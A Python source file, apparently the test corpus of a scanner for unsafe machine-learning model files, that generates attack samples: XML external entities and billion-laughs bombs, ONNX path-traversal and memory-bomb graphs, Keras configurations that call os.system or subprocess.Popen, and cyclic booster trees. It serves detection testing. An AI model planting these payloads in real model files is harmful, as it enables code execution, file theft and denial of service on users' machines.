"""Held-out attacks: XML, ONNX, configurations of Keras, boosters."""

# ruff: noqa: E501, E731, UP031 (one attack a line)
from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from corpora.unseen_archives import _make, zipped
from corpora.unseen_texts import PAYLOAD
from corpora.unseen_units import (
    BOMB,
    BROKEN,
    CALL,
    CUSTOM,
    HIDDEN,
    KERAS,
    OPERATOR,
    OUTSIDE,
    PATH,
    TOUCH,
    Attack,
    pb,
)


def xmls() -> Iterator[Attack]:
    entity = f'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file://{OUTSIDE}/canary.txt">]>'
    load = "from lxml import etree; p = etree.XMLParser(resolve_entities=True, load_dtd=True, huge_tree=True, no_network=False); t = etree.parse(F, p); print(etree.tostring(t))"
    body = '<PMML version="4.4"><Header description="&x;"/></PMML>'
    steps = "".join(f'<!ENTITY e{i} "{("&e%d;" % (i - 1)) * 12}">' for i in range(1, 12))
    laugh = f'<!DOCTYPE PMML [<!ENTITY e0 "AAAAAAAAAAAAAAAA">{steps}]><PMML version="4.4">&e11;</PMML>'
    net = '<net name="m" version="11"><layers>&x;</layers></net>'
    par = f'<!DOCTYPE PMML [<!ENTITY % p SYSTEM "file://{OUTSIDE}/canary.txt"> <!ENTITY x SYSTEM "file://{OUTSIDE}/canary.txt">]>'
    any_xml = frozenset(
        {
            "model-path-traversal",
            "model-external-data",
            "model-broken-stream",
            "model-code-execution",
            "model-decompression-bomb",
            "model-dangerous-operator",
        }
    )
    table = {
        "pmml-entity": ("an external entity reads a file", f'<?xml version="1.0"?>{entity}{body}'.encode()),
        "pmml-utf16": ("the same in UTF-16", f'<?xml version="1.0" encoding="UTF-16"?>{entity}{body}'.encode("utf-16")),
        "openvino-entity": ("an external entity in an OpenVINO model, for tools that read it with an XML library", {"m.xml": f'<?xml version="1.0"?>{entity.replace("PMML", "net")}{net}'.encode()}),
        "laughs": ("entities that grow", laugh.encode(), any_xml, load, "bomb"),
        "xinclude": ("XInclude reads a file", f'<PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header><xi:include href="file://{OUTSIDE}/canary.txt" parse="text"/></Header></PMML>'.encode(), None, load.replace("print", "t.xinclude(); print")),
        "latin": ("an entity behind a comment in another encoding", f'<?xml version="1.0" encoding="ISO-8859-1"?><!-- model -->{par.replace(" ", chr(10), 1)}{body}'.encode("latin-1")),
    }  # fmt: skip
    yield from _make("xml", "lxml with entities, as PMML tools on Java's defaults", load, any_xml, table, "m.pmml")


def graphs() -> Iterator[Attack]:
    def tensor(location: str, size: int = 72, **more: str) -> bytes:
        pairs = {"location": location, **more}
        entries = [(13, pb((1, k), (2, v))) for k, v in pairs.items()]
        return pb((1, size), (2, 2), (8, "w"), *entries, (14, 1))

    def model(
        nodes: list[bytes], weights: list[bytes] = (), domains: list[str] = (), out: tuple[int, int] = (2, 72)
    ) -> bytes:
        value = lambda n: pb((1, n), (2, pb((1, pb((1, out[0]), (2, pb((1, pb((2, "n"))))))))))
        graph = pb(*((1, n) for n in nodes), (2, "g"), *((5, w) for w in weights), (12, value("y")))
        return pb((1, 8), (7, graph), *((8, pb((1, d), (2, 17))) for d in ["", *domains]))

    same = pb((1, "w"), (2, "y"), (3, "i"), (4, "Identity"))
    run = "import onnxruntime as o; s = o.InferenceSession(F); print(bytes(s.run(None, {})[0]))"
    own = "import onnx; m = onnx.load(F, load_external_data=False); t = m.graph.initializer[0]; e = {x.key: x.value for x in t.external_data}; print(open(e['location'], 'rb').read())"
    ints = lambda *v: pb((1, len(v)), (2, 7), (8, "s"), (9, struct.pack(f"<{len(v)}q", *v)))
    fill = pb((1, "s"), (2, "y"), (4, "ConstantOfShape"))
    far = "../../../../outside/canary.txt"
    custom = pb((1, "w"), (2, "y"), (4, "Run"), (7, "evil.ops"))
    table = {
        "external-dots": ("external data above the folder, for loaders that join paths", model([same], [tensor(far)]), PATH, own),
        "external-absolute": ("external data with an absolute path", model([same], [tensor(f"{OUTSIDE}/canary.txt")]), PATH, own),
        "fill-bomb": ("ConstantOfShape of 2^40 floats", model([fill], [ints(1 << 40)], out=(1, 1)), BOMB, run, "bomb"),
        "merged": ("two messages one behind the other: protobuf joins them, the second brings the node that fills memory", model([fill], [ints(1 << 40)], out=(1, 1)) + pb((7, pb((1, pb((1, "s"), (2, "z"), (4, "ConstantOfShape")))))), BOMB | HIDDEN | BROKEN, run, "bomb"),
        "custom-domain": ("an operator that a native library must provide", model([custom], [tensor("w.bin")], ["evil.ops"]), CUSTOM, None, "kept: needs SessionOptions.register_custom_ops_library with the publisher's library (onnxruntime docs, custom operators)"),
        "python-operator": ("PyOp of onnxruntime-extensions calls a Python function of the process", model([pb((1, "w"), (2, "y"), (4, "PyOp"), (7, "ai.onnx.contrib"))], [tensor("w.bin")], ["ai.onnx.contrib"]), CUSTOM, None, "kept: onnxruntime-extensions docs, PyOp"),
    }  # fmt: skip
    yield from _make(
        "onnx", "onnxruntime 1.32, onnx 1.23 without its path check", run, CUSTOM | OPERATOR, table, "m.onnx"
    )


def keras() -> Iterator[Attack]:
    build = "import json, keras; keras.config.enable_unsafe_deserialization() if hasattr(keras.config, 'enable_unsafe_deserialization') else None; c = json.load(open(F)); m = keras.saving.deserialize_keras_object(c, safe_mode=False)"
    obj = lambda module, cls, config: {"module": module, "class_name": cls, "config": config, "registered_name": None}
    lookup = obj(
        "keras.layers",
        "StringLookup",
        {
            "name": "s",
            "vocabulary": f"{OUTSIDE}/canary.txt",
            "num_oov_indices": 1,
            "mask_token": None,
            "oov_token": "[UNK]",
            "idf_weights": None,
            "encoding": "utf-8",
            "invert": False,
            "output_mode": "int",
            "sparse": False,
            "pad_to_max_tokens": False,
            "max_tokens": None,
        },
    )
    table = {
        "function-object": ("the configuration names a function of another module", {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}, build + f"; m({TOUCH!r})"),
        "file-utility": ("the configuration names keras.utils.get_file, which then fetches", {"class_name": "function", "config": "get_file", "module": "keras.utils", "registered_name": "get_file"}, build + "; m('x', 'http://127.0.0.1:8765/model')"),
        "vocabulary-file": ("StringLookup reads its vocabulary from a file outside", lookup, build + "; print(m.get_vocabulary())"),
        "class-outside": ("a class outside of Keras is built from its configuration", obj("payload", "Model", {}), build),
        "nested-argument": ("an argument of a layer is a function of os", obj("keras.layers", "Dense", {"units": 1, "activation": {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}}), build + f"; m.activation({TOUCH!r})"),
        "units-bomb": ("a layer of 10^6 times 10^6 numbers", {"class_name": "Sequential", "module": "keras", "registered_name": None, "config": {"name": "s", "layers": [obj("keras.layers", "InputLayer", {"batch_shape": [None, 1000000], "name": "i"}), obj("keras.layers", "Dense", {"units": 1000000, "name": "d"})], "build_input_shape": [None, 1000000]}}, build),
    }  # fmt: skip
    for what, (does, config, load) in table.items():
        rules = {"units-bomb": BOMB, "vocabulary-file": PATH | KERAS}.get(what, KERAS | CALL)
        for env in ("keras30", "tf") if what == "function-object" else ("keras30",):
            yield Attack(
                f"keras/{what}" + ("-new" if env == "tf" else ""),
                "keras",
                {"config.json": json.dumps(config).encode(), **(PAYLOAD if what == "class-outside" else {})},
                "keras.saving.deserialize_keras_object(safe_mode=False), Keras 3",
                load,
                does,
                rules,
                env,
                "bomb" if what == "units-bomb" else "mark",
            )
    archive = lambda c: zipped(
        ("metadata.json", b'{"keras_version": "3.0.5", "date_saved": "2024-01-01@00:00:00"}'),
        ("config.json", json.dumps(c).encode()),
        ("model.weights.h5", b""),
    )
    whole = "import keras; keras.saving.load_model(F, safe_mode=False)"
    yield Attack(
        "keras/archive-class",
        "keras",
        {"m.keras": archive(obj("payload", "Model", {})), **PAYLOAD},
        "keras.saving.load_model(safe_mode=False), Keras 3.0.5",
        whole,
        "a .keras archive names a class of a module beside",
        KERAS | CALL,
        "keras30",
    )
    yield Attack(
        "keras/archive-popen",
        "keras",
        {"m.keras": archive(obj("subprocess", "Popen", {}))},
        "keras.saving.load_model, Keras 3.0.5",
        "import subprocess\nsubprocess.Popen.from_config = classmethod(lambda c, **k: None)\n" + whole,
        "a .keras archive names subprocess.Popen",
        KERAS | CALL,
        "keras30",
        "kept: Keras 3.0.5 imports module and class of the configuration (CVE-2025-1550)",
    )


def boosters() -> Iterator[Attack]:
    tree = {
        "base_weights": [0.0, 0.0, 0.0],
        "categories": [],
        "categories_nodes": [],
        "categories_segments": [],
        "categories_sizes": [],
        "default_left": [0, 0, 0],
        "id": 0,
        "left_children": [0, -1, -1],
        "loss_changes": [1.0, 0.0, 0.0],
        "parents": [2147483647, 0, 0],
        "right_children": [0, -1, -1],
        "split_conditions": [0.5, 0.0, 0.0],
        "split_indices": [0, 0, 0],
        "split_type": [0, 0, 0],
        "sum_hessian": [1.0, 1.0, 1.0],
        "tree_param": {"num_deleted": "0", "num_feature": "1", "num_nodes": "3", "size_leaf_vector": "1"},
    }
    learner = {
        "attributes": {},
        "feature_names": [],
        "feature_types": [],
        "gradient_booster": {
            "model": {
                "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
                "iteration_indptr": [0, 1],
                "tree_info": [0],
                "trees": [tree],
            },
            "name": "gbtree",
        },
        "learner_model_param": {
            "base_score": "5E-1",
            "boost_from_average": "1",
            "num_class": "0",
            "num_feature": "1",
            "num_target": "1",
        },
        "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}},
    }
    x = json.dumps({"learner": learner, "version": [2, 1, 0]}).encode()
    use = "import xgboost, numpy; b = xgboost.Booster(model_file=F); b.predict(xgboost.DMatrix(numpy.ones((1, 1))))"
    lines = [
        "tree",
        "version=v4",
        "num_class=1",
        "num_tree_per_iteration=1",
        "label_index=0",
        "max_feature_idx=0",
        "objective=regression",
        "feature_names=a",
        "feature_infos=[0:1]",
        "tree_sizes=%d",
        "",
    ]
    body = "Tree=0\nnum_leaves=3\nnum_cat=0\nsplit_feature=0 0\nsplit_gain=1 1\nthreshold=0.5 0.5\ndecision_type=2 2\nleft_child=1 0\nright_child=1 0\nleaf_value=0 0 0\nleaf_weight=1 1 1\nleaf_count=1 1 1\ninternal_value=0 0\ninternal_weight=1 1\ninternal_count=2 2\nis_linear=0\nshrinkage=1\n\n\n"
    text = (
        "\n".join(lines) % len(body)
        + "\n"
        + body
        + "end of trees\n\nfeature_importances:\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n"
    )
    light = "import lightgbm, numpy; b = lightgbm.Booster(model_file=F); b.predict(numpy.ones((1, 1)))"
    wide = text.replace("num_leaves=3", "num_leaves=2000000000").encode()
    odd = BOMB | BROKEN
    table = {
        "xgboost-cycle": ("a node is its own child: predict never ends", {"m.json": x}, odd, use, "bomb"),
        "xgboost-deep": ("JSON of a million brackets runs the parser out of its stack", {"m.json": b'{"learner":' + b"[" * 1_000_000}, odd, use, "bomb"),
        "lightgbm-cycle": ("two nodes are each other's children: predict never ends", text.encode(), odd, light, "bomb"),
        "lightgbm-leaves": ("two billion leaves are allocated", wide, odd, light, "bomb"),
    }  # fmt: skip
    yield from _make("boosters", "xgboost 3.2, lightgbm 4.7", use, odd, table, "m.txt")


def attacks() -> Iterator[Attack]:
    for part in (xmls, graphs, keras, boosters):
        yield from part()
